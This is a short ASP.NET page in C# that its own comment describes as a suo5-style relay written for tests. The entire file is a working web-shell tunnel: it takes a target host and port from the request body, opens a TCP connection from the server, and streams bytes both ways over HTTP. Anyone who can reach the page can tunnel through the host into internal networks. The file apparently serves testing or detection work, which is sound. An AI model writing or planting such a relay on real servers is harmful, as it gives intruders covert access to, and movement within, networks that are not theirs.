<%@ Page Language="C#" EnableSessionState="False" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="System.Collections" %>
<script runat="server">
    // A relay of the suo5 kind, written for the tests: host and port come from the request body,
    // the connection is kept in a static table and its bytes are streamed back in the response.
    static Hashtable peers = Hashtable.Synchronized(new Hashtable());

    string Field(string[] parts, string name)
    {
        foreach (string p in parts)
        {
            if (p.StartsWith(name + "=")) return p.Substring(name.Length + 1);
        }
        return "";
    }

    protected void Page_Load(object sender, EventArgs e)
    {
        byte[] body = Request.BinaryRead(Request.ContentLength);
        string[] parts = System.Text.Encoding.ASCII.GetString(body).Split('&');
        string id = Field(parts, "i");
        Stream output = Response.OutputStream;
        if (Field(parts, "a") == "open")
        {
            string host = Field(parts, "h");
            int port = int.Parse(Field(parts, "p"));
            TcpClient peer = new TcpClient();
            peer.BeginConnect(host, port, null, null).AsyncWaitHandle.WaitOne(3000, true);
            peers[id] = peer;
            NetworkStream ns = peer.GetStream();
            byte[] buf = new byte[8192];
            int n;
            while ((n = ns.Read(buf, 0, buf.Length)) > 0)
            {
                output.Write(buf, 0, n);
                Response.Flush();
            }
            peers.Remove(id);
        }
        else if (peers.ContainsKey(id))
        {
            byte[] data = Convert.FromBase64String(Field(parts, "d"));
            ((TcpClient)peers[id]).GetStream().Write(data, 0, data.Length);
        }
    }
</script>
